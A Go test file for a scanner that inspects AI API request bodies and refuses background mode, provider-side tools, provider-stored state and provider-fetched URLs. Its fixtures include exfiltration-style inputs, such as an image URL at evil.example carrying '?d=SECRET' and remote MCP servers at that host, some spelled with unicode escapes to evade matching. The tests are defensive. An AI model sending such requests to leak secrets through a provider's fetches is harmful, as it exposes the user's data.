package egress

import (
	"errors"
	"strings"
	"testing"
)

// The scanner finds a top-level "background" that is not false or null however the JSON spells
// it and however it is cut into chunks, and nothing else.
func TestMemberScanner(t *testing.T) {
	tests := []struct {
		body string
		want bool
	}{
		{`{"background":true}`, true},
		{`{"model":"m","input":"hi","background" : true,"stream":true}`, true},
		{"{\n  \"background\":\ttrue\n}", true},
		{`{"BackGround":true}`, true},
		{`{"backgr\u006fund":true}`, true},
		{`{"\u0062\u0061\u0063\u006b\u0067\u0072\u006f\u0075\u006e\u0064":true}`, true},
		{`{"background":"true"}`, true},
		{`{"background":1}`, true},
		{`{"background":{}}`, true},
		{`{"background":[true]}`, true},
		{`{"background":false,"background":true}`, true},
		{`{"input":"a \" quote","background":true}`, true},
		{`{"input":"a \\","background":true}`, true},
		{`{"a":{"b":[1,{"c":"}"}]},"background":true}`, true},
		{`{"background":false}`, false},
		{`{"background":null}`, false},
		{`{"model":"m","input":[{"role":"user","content":"set \"background\": true"}]}`, false},
		{`{"metadata":{"background":true}}`, false},
		{`{"input":[{"background":true}]}`, false},
		{`{"input":"background","x":true}`, false},
		{`{"x":"y","background_color":true}`, false},
		{`{"` + strings.Repeat("k", 500) + `":true}`, false},
		{`[{"background":true}]`, false},
	}
	for _, tt := range tests {
		whole, bytewise := responsesScan(), responsesScan()
		for i := range len(tt.body) {
			bytewise.feed([]byte{tt.body[i]})
		}
		whole.feed([]byte(tt.body))
		if got, found := inBackground(whole), inBackground(bytewise); got != tt.want || found != tt.want {
			t.Errorf("%s: found %v in one chunk, %v byte by byte, want %v", tt.body, got, found, tt.want)
		}
	}
}

// responsesScan is the scanner of a Responses call of a profile that allows no server tool.
func responsesScan() *bodyScan {
	return newBodyScan(&Model{Protocol: ProtocolOpenAI}, "/responses", false)
}

// inBackground says whether the scanner refused the request for background mode.
func inBackground(s *bodyScan) bool {
	r := s.refused.Load()
	return r != nil && r.reason == ReasonBackground
}

// The scanner reads every /responses body an agent sends (Codex sends its whole conversation each
// turn): its throughput bounds what the watch adds to a call.
func BenchmarkMemberScanner(b *testing.B) {
	code := strings.Repeat(`\tif err := run(ctx, \"a line of code\"); err != nil {\n\t\treturn fmt.Errorf(\"run: %w\", err)\n\t}\n`, 40)
	body := []byte(`{"model":"gpt-5","input":[` + strings.Repeat(`{"role":"user","content":[{"type":"input_text","text":"`+code+`"}]},`, 500) + `{}],"stream":true}`)
	b.SetBytes(int64(len(body)))
	for b.Loop() {
		s := responsesScan()
		for chunk := body; len(chunk) > 0; {
			n := min(32<<10, len(chunk))
			if s.feed(chunk[:n]); s.done() {
				b.Fatal("found")
			}
			chunk = chunk[n:]
		}
	}
}

func BenchmarkRouteCall(b *testing.B) {
	routes := modelRoutes(ProtocolOpenAI, nil)
	for b.Loop() {
		if _, _, why := routeCall(routes, "POST", "/model/responses"); why != "" {
			b.Fatal(why)
		}
	}
}

// The scanner's decisions on what a request asks for, however the body arrives: each body is fed
// whole and a byte at a time, and must be refused (why names the refusal) or pass (why ""). The
// profile allows web_fetch and code_execution (Anthropic) and file_search (OpenAI), prices the
// "flex" tier of model m and web_search per use, and has no cost budget unless the case says so.
func TestBodyScanDecisions(t *testing.T) {
	m := map[string]*Model{
		ProtocolAnthropic: {Protocol: ProtocolAnthropic, Model: "m", ServerTools: []string{"web_fetch", "code_execution"}, Tariff: flexTariff},
		ProtocolOpenAI:    {Protocol: ProtocolOpenAI, Model: "m", ServerTools: []string{"file_search"}, Tariff: flexTariff},
	}
	big := strings.Repeat(`{"role":"user","content":"a \"type\": \"web_search\" {[}] https://x"},`, 500)
	tests := []struct {
		name, protocol, route, body string
		budget                      bool
		why                         string // a part of the refusal's reason; "" passes
		unmetered                   bool
	}{
		// Provider-side tools.
		{"claude code's own tools", ProtocolAnthropic, "/v1/messages", `{"model":"m","tools":[{"name":"Bash","input_schema":{"type":"object","properties":{"type":{"type":"string"}}}},{"type":"custom","name":"x"},{"type":"bash_20250124","name":"bash"},{"type":"text_editor_20250728","name":"str_replace_based_edit_tool"}]}`, false, "", false},
		{"web search", ProtocolAnthropic, "/v1/messages", `{"model":"m","tools":[{"type":"web_search_20250305","name":"web_search","max_uses":8}]}`, false, "provider-side tool web_search (web_search_20250305)", false},
		{"web search after the conversation", ProtocolAnthropic, "/v1/messages", `{"messages":[` + big + `{}],"model":"m","tools":[{"name":"Read"},{"name":"web_search","type":"web_search_20260209"}]}`, false, "provider-side tool web_search", false},
		{"web search spelled otherwise", ProtocolAnthropic, "/v1/messages", `{"model":"m","TOOLS":[{"Type":"\u0057eb_Search_20250305"}]}`, false, "provider-side tool web_search", false},
		{"a tool with two types", ProtocolAnthropic, "/v1/messages", `{"model":"m","tools":[{"type":"web_search_20250305","type":"custom","name":"x"}]}`, false, "not a tool the client runs", false},
		{"a type too long to read", ProtocolAnthropic, "/v1/messages", `{"model":"m","tools":[{"type":"` + strings.Repeat("a", 300) + `"}]}`, false, "(unreadable)", false},
		{"an unknown type", ProtocolAnthropic, "/v1/messages", `{"model":"m","tools":[{"type":"tool_search_tool_regex_20251119","name":"t"}]}`, false, `"tool_search_tool_regex_20251119": not a tool the client runs`, false},
		{"mcp servers", ProtocolAnthropic, "/v1/messages", `{"model":"m","mcp_servers":[{"type":"url","url":"https://evil.example/mcp","name":"e"}]}`, false, "provider-side tool mcp (mcp_servers)", false},
		{"mcp servers, none", ProtocolAnthropic, "/v1/messages", `{"model":"m","mcp_servers":null}`, false, "", false},
		{"allowed web fetch, metered", ProtocolAnthropic, "/v1/messages", `{"model":"m","tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`, true, "", false},
		{"allowed code execution: unmetered", ProtocolAnthropic, "/v1/messages", `{"model":"m","tools":[{"type":"code_execution_20250825","name":"code_execution"}]}`, false, "", true},
		{"allowed code execution under a budget", ProtocolAnthropic, "/v1/messages", `{"model":"m","tools":[{"type":"code_execution_20250825","name":"code_execution"}]}`, true, "under a cost budget", false},
		{"container", ProtocolAnthropic, "/v1/messages", `{"model":"m","container":"container_011"}`, false, "", true},
		{"codex's cached web search", ProtocolOpenAI, "/responses", `{"model":"m","tools":[{"type":"function","name":"shell"},{"type":"namespace","name":"n","tools":[{"type":"function","name":"f"}]},{"external_web_access":false,"type":"web_search"}]}`, false, "provider-side tool web_search (web_search)", false},
		{"a namespace holding a server tool", ProtocolOpenAI, "/responses", `{"model":"m","tools":[{"type":"namespace","name":"n","tools":[{"type":"image_generation"}]}]}`, false, "provider-side tool image_generation", false},
		{"a schema's tools are no tools", ProtocolOpenAI, "/responses", `{"model":"m","tools":[{"type":"function","name":"f","parameters":{"properties":{"tools":{"type":"array","default":[{"type":"web_search"}]}}}}]}`, false, "", false},
		{"remote mcp", ProtocolOpenAI, "/responses", `{"model":"m","tools":[{"type":"mcp","server_label":"x","server_url":"https://evil.example"}]}`, false, "provider-side tool mcp", false},
		{"computer use", ProtocolOpenAI, "/responses", `{"model":"m","tools":[{"type":"computer_use_preview","display_width":1}]}`, false, "provider-side tool computer_use", false},
		{"allowed file search, unpriced", ProtocolOpenAI, "/responses", `{"model":"m","tools":[{"type":"file_search","vector_store_ids":["vs_1"]}]}`, false, "", true},
		{"allowed file search, unpriced, under a budget", ProtocolOpenAI, "/responses", `{"tools":[{"type":"file_search"}],"model":"m"}`, true, "a use has no price for model \"m\"", false},
		{"chat's web search", ProtocolOpenAI, "/chat/completions", `{"model":"m","messages":[],"web_search_options":{}}`, false, "provider-side tool web_search (web_search_options)", false},
		{"chat's function tools", ProtocolOpenAI, "/chat/completions", `{"model":"m","tools":[{"type":"function","function":{"name":"f"}}],"web_search_options":null}`, false, "", false},
		// Service tiers.
		{"priority", ProtocolOpenAI, "/responses", `{"model":"m","service_tier":"priority"}`, false, `service tier "priority" has no price for model "m"`, false},
		{"priority of a model with another price", ProtocolOpenAI, "/responses", `{"service_tier":"flex","model":"other"}`, false, `service tier "flex" has no price for model "other"`, false},
		{"flex, priced", ProtocolOpenAI, "/chat/completions", `{"model":"m","service_tier":"Flex"}`, false, "", false},
		{"the default tiers", ProtocolOpenAI, "/responses", `{"model":"m","service_tier":"auto"}`, false, "", false},
		{"anthropic's standard only", ProtocolAnthropic, "/v1/messages", `{"model":"m","service_tier":"standard_only"}`, false, "", false},
		{"two tiers", ProtocolOpenAI, "/responses", `{"model":"m","service_tier":"default","service_tier":"priority"}`, false, "service tier named more than once", false},
		{"a tier not a string", ProtocolOpenAI, "/responses", `{"model":"m","service_tier":["priority"]}`, false, "service tier not a string", false},
		// State stored at the provider.
		{"previous response", ProtocolOpenAI, "/responses", `{"model":"m","previous_response_id":"resp_1","input":"go on"}`, false, "previous_response_id: state stored", false},
		{"no previous response", ProtocolOpenAI, "/responses", `{"model":"m","previous_response_id":null,"store":true,"input":"hi"}`, false, "", false},
		{"a conversation", ProtocolOpenAI, "/responses", `{"model":"m","conversation":{"id":"conv_1"}}`, false, "conversation: state stored", false},
		{"a stored prompt", ProtocolOpenAI, "/responses", `{"model":"m","prompt":{"id":"pmpt_1"}}`, false, "prompt: state stored", false},
		{"an item reference", ProtocolOpenAI, "/responses", `{"model":"m","input":[{"role":"user","content":"hi"},{"type":"item_reference","id":"msg_1"}]}`, false, "an item referred to by its id", false},
		{"an item by its id alone", ProtocolOpenAI, "/responses", `{"model":"m","input":[{"id":"msg_1"}]}`, false, "an item referred to by its id", false},
		{"codex's items", ProtocolOpenAI, "/responses", `{"model":"m","input":[{"type":"message","role":"user","content":[{"type":"input_text","text":"hi"}]},{"type":"reasoning","id":"rs_1","encrypted_content":"x"},{"type":"function_call","id":"fc_1","call_id":"c","name":"shell","arguments":"{}"}],"store":false}`, false, "", false},
		{"a stored file", ProtocolOpenAI, "/responses", `{"model":"m","input":[{"role":"user","content":[{"file_id":"file-1","type":"input_file"}]}]}`, false, "a file referred to by its id", false},
		{"chat's stored file", ProtocolOpenAI, "/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"file","file":{"file_id":"file-1"}}]}]}`, false, "a file referred to by its id", false},
		{"anthropic's stored file", ProtocolAnthropic, "/v1/messages", `{"model":"m","messages":[{"role":"user","content":[{"type":"document","source":{"type":"file","file_id":"file_1"}}]}]}`, false, "a file referred to by its id", false},
		// URLs the provider would fetch.
		{"an image by url", ProtocolAnthropic, "/v1/messages", `{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"url":"https://evil.example/?d=SECRET","type":"url"}}]}]}`, false, ReasonFetchedURL, false},
		{"a document by url, spelled otherwise", ProtocolAnthropic, "/v1/messages", `{"model":"m","messages":[{"role":"user","content":[{"type":"document","source":{"Type":"\u0075rl","URL":"h\u0074tps://evil.example"}}]}]}`, false, ReasonFetchedURL, false},
		{"an image inline", ProtocolAnthropic, "/v1/messages", `{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"iVBO"}}]}]}`, false, "", false},
		{"claude code's web fetch call", ProtocolAnthropic, "/v1/messages", `{"model":"m","messages":[{"role":"assistant","content":[{"type":"tool_use","id":"t","name":"WebFetch","input":{"url":"https://example.com","prompt":"p"}}]}]}`, false, "", false},
		{"responses' image by url", ProtocolOpenAI, "/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"https://evil.example/x.png"}]}]}`, false, ReasonFetchedURL, false},
		{"responses' image inline", ProtocolOpenAI, "/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"data:image/png;base64,iVBO"}]}]}`, false, "", false},
		{"responses' file by url", ProtocolOpenAI, "/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file_url":"http://evil.example/a.pdf"}]}]}`, false, ReasonFetchedURL, false},
		{"chat's image by url", ProtocolOpenAI, "/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"image_url":{"url":"https://evil.example/x.png"},"type":"image_url"}]}]}`, false, ReasonFetchedURL, false},
		{"chat's image inline", ProtocolOpenAI, "/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"DATA:image/png;base64,iVBO"}}]}]}`, false, "", false},
		// Background mode, and bodies the scanner cannot read as a request.
		{"background", ProtocolOpenAI, "/responses", `{"model":"m","background":true}`, false, ReasonBackground, false},
		{"background elsewhere", ProtocolOpenAI, "/chat/completions", `{"model":"m","background":true}`, false, "", false},
	}
	for _, tt := range tests {
		for _, bytewise := range []bool{false, true} {
			s := newBodyScan(m[tt.protocol], tt.route, tt.budget)
			if bytewise {
				for i := range len(tt.body) {
					s.feed([]byte{tt.body[i]})
				}
			} else {
				s.feed([]byte(tt.body))
			}
			got := ""
			if r := s.refused.Load(); r != nil {
				got = r.reason
				if r.fix == "" {
					t.Errorf("%s: refused without a fix", tt.name)
				}
			}
			switch {
			case s.invalid() != nil:
				t.Errorf("%s (byte by byte %v): %v", tt.name, bytewise, s.invalid())
			case tt.why == "" && got != "":
				t.Errorf("%s (byte by byte %v): refused, %q; want it to pass", tt.name, bytewise, got)
			case tt.why != "" && !strings.Contains(got, tt.why):
				t.Errorf("%s (byte by byte %v): refused %q, want %q", tt.name, bytewise, got, tt.why)
			case tt.why == "" && !s.ended:
				t.Errorf("%s: the scanner did not read the body to its end", tt.name)
			case s.unmetered.Load() != tt.unmetered:
				t.Errorf("%s: unmetered = %v, want %v", tt.name, s.unmetered.Load(), tt.unmetered)
			}
		}
	}
}

func flexTariff(model string) Tariff {
	if model != "m" {
		return Tariff{}
	}
	return Tariff{Tiers: map[string]TierPrice{"flex": {InputPerMTok: 1, OutputPerMTok: 4}}, PerUse: map[string]float64{"web_search": 0.01}}
}

// What the scanner keeps does not grow with the body: a body nested past the bound, or that goes on
// after its object, is no request it reads.
func TestBodyScanBounds(t *testing.T) {
	for _, tt := range []struct {
		body string
		err  error
	}{
		{`{"a":` + strings.Repeat("[", maxDepth) + strings.Repeat("]", maxDepth) + `}`, errTooDeep},
		{`{"model":"m"} {"model":"n"}`, errTrailing},
		{`{"model":"` + strings.Repeat("m", maxModelBytes+1) + `"}`, errLongModel},
	} {
		s := newBodyScan(&Model{Protocol: ProtocolOpenAI}, "/responses", false)
		s.feed([]byte(tt.body))
		if !errors.Is(s.invalid(), tt.err) {
			t.Errorf("%.40s…: %v, want %v", tt.body, s.invalid(), tt.err)
		}
	}
	s := newBodyScan(&Model{Protocol: ProtocolOpenAI}, "/responses", false)
	s.feed([]byte(`{"input":[`))
	for range 10000 {
		s.feed([]byte(`{"role":"user","content":[{"type":"input_text","text":"` + strings.Repeat("x", 100) + `"}]},`))
	}
	s.feed([]byte(`{}]}`))
	if !s.ended || s.done() || cap(s.stack) > 16 || cap(s.raw) > maxKeyBytes {
		t.Errorf("after 10000 items: ended %v, done %v, %d frames and %d bytes kept", s.ended, s.done(), cap(s.stack), cap(s.raw))
	}
}
